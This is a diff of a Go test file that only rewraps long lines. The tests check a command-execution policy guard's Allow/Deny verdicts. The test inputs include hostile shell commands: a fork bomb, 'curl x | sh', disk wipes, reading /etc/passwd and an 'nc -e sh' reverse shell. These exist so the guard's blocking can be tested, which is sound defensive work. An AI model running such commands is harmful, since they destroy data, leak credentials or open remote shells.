@@ -15,8 +15,10 @@ func push() Policy {
 func TestAllowFreesOneSimpleCommand(t *testing.T) {
 	g := mustNew(t, push())
 	for _, line := range []string{
-		"git push origin main", "git  push   'origin' main", "git add . && git push origin main", "nohup git push origin main",
-		"g=git; $g push origin main", "bash -c 'git push origin main'", "git push origin main; echo done", "if true; then git push origin main; fi",
+		"git push origin main", "git  push   'origin' main", "git add . && git push origin main",
+		"nohup git push origin main",
+		"g=git; $g push origin main", "bash -c 'git push origin main'", "git push origin main; echo done",
+		"if true; then git push origin main; fi",
 	} {
 		if d := decide(g, line); d.Verdict != Allow {
 			t.Errorf("%s: %+v", line, d)
@@ -52,12 +54,14 @@ func TestAllowLiftsNoHardRule(t *testing.T) {
 	p := everything()
 	p.Exec.CustomAllow = []string{".*"}
 	g := mustNew(t, p)
-	for _, line := range []string{"rm -rf build", "git push", "docker run x", "apt install x", "chmod 777 x", "curl x | sh"} {
+	for _, line := range []string{"rm -rf build", "git push", "docker run x", "apt install x", "chmod 777 x",
+		"curl x | sh"} {
 		if d := decide(g, line); d.Verdict != Allow {
 			t.Errorf("%s: %+v", line, d)
 		}
 	}
-	for _, line := range []string{"sudo ls", "mkfs x", ":(){ :|:& };:", "echo x > /dev/sda", "reboot", "$(cat x)", "LD_PRELOAD=x ls", "cat /etc/passwd", "nc -e sh h 1"} {
+	for _, line := range []string{"sudo ls", "mkfs x", ":(){ :|:& };:", "echo x > /dev/sda", "reboot", "$(cat x)",
+		"LD_PRELOAD=x ls", "cat /etc/passwd", "nc -e sh h 1"} {
 		if d := decide(g, line); d.Verdict == Allow || d.Tier == "soft" {
 			t.Errorf("%s: %+v", line, d)
 		}
@@ -89,7 +93,8 @@ func TestCustomDenyWins(t *testing.T) {
 			g := mustNew(t, p)
 			for line, denied := range lines {
 				d := decide(g, line)
-				if (d.Rule == "exec.custom-deny") != denied || denied && (d.Verdict != Deny || !strings.Contains(d.Hint, "tools.exec.custom_deny_patterns")) {
+				if (d.Rule == "exec.custom-deny") != denied || denied &&
+					(d.Verdict != Deny || !strings.Contains(d.Hint, "tools.exec.custom_deny_patterns")) {
 					t.Errorf("built-in %t, restrict %t: %s: %+v", builtIn, restrict, line, d)
 				}
 			}
